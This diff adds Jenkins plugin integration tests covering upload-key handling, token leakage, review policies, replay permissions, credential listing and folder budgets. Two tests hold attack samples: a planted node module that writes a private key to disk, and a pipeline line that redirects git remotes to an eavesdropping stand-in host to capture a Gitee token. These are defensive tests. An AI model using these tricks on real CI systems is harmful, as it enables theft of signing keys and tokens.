@@ -3,10 +3,15 @@ package io.jenkins.plugins.minibuild.controller;
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.junit.jupiter.api.Assumptions.assumeTrue;
 
+import io.jenkins.plugins.minibuild.process.Deadline;
+import io.jenkins.plugins.minibuild.standin.Eavesdropper;
+import io.jenkins.plugins.minibuild.standin.GiteeService;
 import java.io.IOException;
 import java.net.http.HttpResponse;
 import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
 import java.nio.file.Path;
+import java.time.Duration;
 import java.util.Base64;
 import java.util.Map;
 import org.junit.jupiter.api.AfterAll;
@@ -296,5 +301,263 @@ class PoliciesControllerIT {
                         .body())
                 .as("who may see workspaces may see code")
                 .contains("secretFormula");
+    }
+
+    private static String text(String value) {
+        return "new String('" + Base64.getEncoder().encodeToString(value.getBytes(StandardCharsets.UTF_8))
+                + "'.decodeBase64(), 'UTF-8')";
+    }
+
+    /** The key goes to the tool of the administrator; what is done here with it where the job gives it away shows that the module works. */
+    @Test
+    @Order(6)
+    void theProjectsOwnMiniprogramCiDoesNotGetTheUploadKey() throws Exception {
+        Path stolen = folder.resolve("stolen-key");
+        String module = """
+                exports.Project = function (options) { require('fs').writeFileSync('%s', options.privateKey); };
+                exports.preview = function () { return Promise.resolve({}); };
+                """.formatted(stolen);
+        String script = """
+                node {
+                  giteeCheckout url: env.GITEE_URL, credentialsId: 'gitee-token'
+                  writeFile file: 'node_modules/miniprogram-ci/package.json', text: '{"name": "miniprogram-ci", "version": "2.1.42"}'
+                  writeFile file: 'node_modules/miniprogram-ci/index.js', text: %s
+                  miniprogramPreview appId: '%s', privateKeyCredentialsId: 'miniprogram-key'%s
+                }
+                """;
+        makePipeline("", "own-tool", script.formatted(text(module), MiniProgramSite.APP, ""));
+        assertThat(log("job/own-tool")).contains("Finished: SUCCESS").doesNotContain("is given the upload key");
+        assertThat(stolen).doesNotExist();
+        assertThat(RealController.filesWith(
+                        site.key.pem().lines().skip(1).findFirst().orElseThrow(), controller.home()))
+                .isEmpty();
+
+        makePipeline("", "given-away", script.formatted(text(module), MiniProgramSite.APP, ", ciTool: 'project'"));
+        assertThat(log("job/given-away")).contains("is given the upload key");
+        assertThat(stolen).as("the module takes what it is given").exists();
+    }
+
+    /** What a package's script can do before the step that has the token. */
+    @Test
+    @Order(7)
+    void aPlantedAddressDoesNotGetTheToken() throws Exception {
+        try (Eavesdropper evil = Eavesdropper.start()) {
+            String planted = "sh 'git config remote.origin.url " + evil.address() + "/demo/shop.git && "
+                    + "git config url." + evil.address() + "/.insteadOf " + site.gitee.url() + "/'";
+            makePipeline("", "planted-unknown", """
+                    node {
+                      sh 'git init -q . && git remote add origin %s/demo/shop.git'
+                      createMergeRequest credentialsId: 'gitee-token', source: 'feature/x', target: 'main', title: 'x'
+                    }
+                    """.formatted(evil.address()));
+            assertThat(log("job/planted-unknown")).contains("Finished: FAILURE", "url");
+            for (String step : new String[] {
+                "createMergeRequest credentialsId: 'gitee-token', source: 'feature/x', target: 'main', title: 'x'",
+                "aiReview base: 'main', head: 'feature/x', gitCredentialsId: 'gitee-token'",
+                "humanReview base: 'main', head: 'feature/x', gitCredentialsId: 'gitee-token'"
+            }) {
+                String job = "planted-" + step.substring(0, step.indexOf(' '));
+                site.gitee.forgetRequests();
+                makePipeline("", job, """
+                        node {
+                          giteeCheckout url: env.GITEE_URL, credentialsId: 'gitee-token'
+                          %s
+                          %s
+                        }
+                        """.formatted(planted, step));
+                assertThat(log("job/" + job))
+                        .as("there is no such branch at the true address")
+                        .contains("feature/x", "Finished: FAILURE");
+                assertThat(site.gitee.requests()).as(job).isNotEmpty();
+            }
+            assertThat(evil.heard()).isEmpty();
+        }
+    }
+
+    private static final String CHANGE = """
+            sh \'\'\'rm -rf code && mkdir code && cd code && git init -q -b main .
+              git config user.name a && git config user.email a@example.com
+              echo 1 > a.js && git add . && git commit -qm first && git switch -q -c feature
+              echo 2 > a.js && git commit -qam second\'\'\'
+            def base = sh(script: 'cd code && git rev-parse main', returnStdout: true).trim()
+            """;
+
+    private static void policy(String set) throws Exception {
+        assertThat(controller.script("""
+                import io.jenkins.plugins.minibuild.access.*
+                def policy = new PolicyConfiguration()
+                %s
+                jenkins.model.Jenkins.get().getDescriptor('io.jenkins.plugins.minibuild.access.PoliciesConfiguration').policy = policy
+                print 'set'
+                """.formatted(set))).isEqualTo("set");
+    }
+
+    @Test
+    @Order(8)
+    void aHumanReviewThatAsksForLessThanAPolicyIsRefusedAndAReplayHidesNoRequester() throws Exception {
+        policy("policy.fourEyes = true; policy.minApprovals = 2;"
+                + "policy.reviewers = [new ReviewerRuleConfiguration('**', 'user:wang, group:leads')]");
+        makePipeline(
+                "", "one-pair", "node { " + CHANGE + " humanReview directory: 'code', base: base, fourEyes: false }");
+        assertThat(log("job/one-pair"))
+                .contains("The policy \"fourEyes\" of the system configuration", "Finished: FAILURE");
+
+        controller.createPipeline("reviewed", "node { " + CHANGE + " humanReview directory: 'code', base: base }");
+        controller.start("reviewed");
+        controller.awaitConsole("reviewed", 1, "Waiting for 2 approvals");
+        assertThat(controller.console("reviewed", 1)).contains("user:wang, group:leads");
+        assertThat(controller.script("""
+                def jenkins = jenkins.model.Jenkins.get()
+                def run = jenkins.getItemByFullName('reviewed').getBuildByNumber(1)
+                def realm = jenkins.securityRealm
+                realm.createAccount('li', 'only-for-li-9911')
+                jenkins.authorizationStrategy.add(jenkins.ADMINISTER,
+                    org.jenkinsci.plugins.matrixauth.PermissionEntry.user('li'))
+                def context = hudson.security.ACL.as2(hudson.model.User.getById('li', true).impersonate2())
+                try {
+                  def action = run.getAction(org.jenkinsci.plugins.workflow.cps.replay.ReplayAction)
+                  print action.run2(action.originalScript, [:]) != null
+                } finally {
+                  context.close()
+                }
+                """)).isEqualTo("true");
+        controller.awaitConsole("reviewed", 2, "Waiting for 2 approvals");
+        String page = controller.get("job/reviewed/2/mini-build-approval/1/").body();
+        assertThat(page).contains("li (", "admin (");
+        HttpResponse<String> own = controller.as(
+                "li",
+                "only-for-li-9911",
+                "POST",
+                "job/reviewed/2/mini-build-approval/1/verdict?verdict=approve&diffSha256="
+                        + controller
+                                .json("job/reviewed/2/mini-build-approval/1/state")
+                                .path("diffSha256")
+                                .asText(),
+                "Accept",
+                "application/json");
+        assertThat(own.statusCode()).as(own.body()).isEqualTo(409);
+        for (int build = 1; build <= 2; build++) {
+            controller.post("job/reviewed/" + build + "/stop", Map.of());
+            controller.await("reviewed", build, Duration.ofMinutes(1));
+        }
+    }
+
+    /** Running an old Jenkinsfile is what Replay does. */
+    @Test
+    @Order(9)
+    void whoMayBuildAndNotReplayRetriesWithTheNewestJenkinsfile() throws Exception {
+        Path repository = site.gitee.createRepository("demo", "scripted", false);
+        Path files = Files.createDirectories(folder.resolve("scripted"));
+        Files.writeString(files.resolve("Jenkinsfile"), "echo 'runs the OLD one'\nerror 'x'\n");
+        GiteeService.commit(repository, files, "main", "old");
+        controller.createJob("scripted", """
+                <flow-definition plugin="workflow-job">
+                  <definition class="org.jenkinsci.plugins.workflow.cps.CpsScmFlowDefinition" plugin="workflow-cps">
+                    <scm class="hudson.plugins.git.GitSCM" plugin="git">
+                      <configVersion>2</configVersion>
+                      <userRemoteConfigs><hudson.plugins.git.UserRemoteConfig><url>%s</url></hudson.plugins.git.UserRemoteConfig></userRemoteConfigs>
+                      <branches><hudson.plugins.git.BranchSpec><name>main</name></hudson.plugins.git.BranchSpec></branches>
+                    </scm>
+                    <scriptPath>Jenkinsfile</scriptPath>
+                  </definition>
+                </flow-definition>
+                """.formatted(site.gitee.gitUrl("demo", "scripted")));
+        assertThat(controller.build("scripted")).isEqualTo("FAILURE");
+        assertThat(controller.console("scripted", 1)).contains("runs the OLD one");
+        Files.writeString(files.resolve("Jenkinsfile"), "echo 'runs the NEW one'\n");
+        GiteeService.commit(repository, files, "main", "new");
+        controller.script("""
+                import org.jenkinsci.plugins.matrixauth.PermissionEntry
+                def jenkins = jenkins.model.Jenkins.get()
+                jenkins.securityRealm.createAccount('builder', 'only-for-builder-77')
+                [jenkins.READ, hudson.model.Item.READ, hudson.model.Item.BUILD].each {
+                  jenkins.authorizationStrategy.add(it, PermissionEntry.user('builder'))
+                }
+                """);
+        assertThat(controller
+                        .as("builder", "only-for-builder-77", "POST", "job/scripted/1/mini-build-retry/retry")
+                        .statusCode())
+                .isEqualTo(302);
+        awaitBuild("scripted", 2);
+        assertThat(controller.console("scripted", 2))
+                .contains("runs the NEW one")
+                .doesNotContain("OLD");
+
+        assertThat(controller
+                        .post("job/scripted/1/mini-build-retry/retry", Map.of())
+                        .statusCode())
+                .isEqualTo(302);
+        awaitBuild("scripted", 3);
+        assertThat(controller.console("scripted", 3))
+                .as("an administrator may replay")
+                .contains("runs the OLD one");
+    }
+
+    private static void awaitBuild(String job, int number) throws Exception {
+        Deadline deadline = Deadline.after(Duration.ofMinutes(1));
+        while (controller.get("job/" + job + "/" + number + "/api/json").statusCode() != 200) {
+            assertThat(deadline.expired()).as(job + " " + number).isFalse();
+            Thread.sleep(100);
+        }
+        controller.await(job, number, Duration.ofMinutes(2));
+    }
+
+    /** A list of credentials that builds cannot use would tell their names to whoever may configure the job. */
+    @Test
+    @Order(10)
+    void formsOfAJobThatRunsAsAUserOfferThatUsersCredentialsOnly() throws Exception {
+        makePipeline("", "as-reader", "echo 'x'");
+        String list =
+                "job/as-reader/descriptorByName/io.jenkins.plugins.minibuild.checkout.GiteeCheckoutStep/fillCredentialsIdItems";
+        assertThat(controller.post(list, Map.of("url", "")).body()).contains("gitee-token");
+        assertThat(controller.script("""
+                def all = jenkins.security.QueueItemAuthenticatorConfiguration.get().authenticators
+                all.add(new jenkins.security.QueueItemAuthenticator() {
+                  org.springframework.security.core.Authentication authenticate2(hudson.model.Queue.Task task) {
+                    task.fullDisplayName == 'as-reader' ? hudson.model.User.getById('reader', false).impersonate2() : null
+                  }
+                })
+                print all.size()
+                """)).isEqualTo("1");
+        try {
+            assertThat(controller.post(list, Map.of("url", "")).body()).doesNotContain("gitee-token");
+        } finally {
+            controller.script("jenkins.security.QueueItemAuthenticatorConfiguration.get().authenticators.clear()");
+        }
+    }
+
+    /** As a team does that wants a fresh daily budget. */
+    @Test
+    @Order(11)
+    void aFolderThatIsRenamedOrMadeAnewHasSpentWhatItHas() throws Exception {
+        String spent = controller.script("""
+                import com.cloudbees.hudson.plugins.folder.Folder
+                import io.jenkins.plugins.minibuild.claude.*
+                import java.time.Clock
+                def jenkins = jenkins.model.Jenkins.get()
+                def spender = jenkins.createProject(Folder, 'spender')
+                ClaudeConfiguration.get().folderBudgets = [new ClaudeFolderBudgetConfiguration('spender', 3)]
+                def budget = new DailyBudget(new File(jenkins.rootDir, 'mini-build').toPath(), Clock.systemDefaultZone())
+                def left = { name ->
+                  try {
+                    def some = budget.reserve([new DailyBudget.Scope(name, 3)], 3)
+                    budget.settle(some, 0)
+                    some.dollars()
+                  } catch (hudson.AbortException e) {
+                    0
+                  }
+                }
+                budget.settle(budget.reserve([new DailyBudget.Scope('spender', 3)], 3), 2)
+                def told = [left('spender')]
+                spender.renameTo('thrifty')
+                told << ClaudeConfiguration.get().folderBudgets.collect { it.folder }
+                told << left('thrifty')
+                spender.delete()
+                jenkins.createProject(Folder, 'thrifty')
+                told << ClaudeConfiguration.get().folderBudgets.collect { it.folder }
+                told << left('thrifty')
+                print told
+                """);
+        assertThat(spent).isEqualTo("[1.0, [thrifty], 1.0, [thrifty], 1.0]");
     }
 }
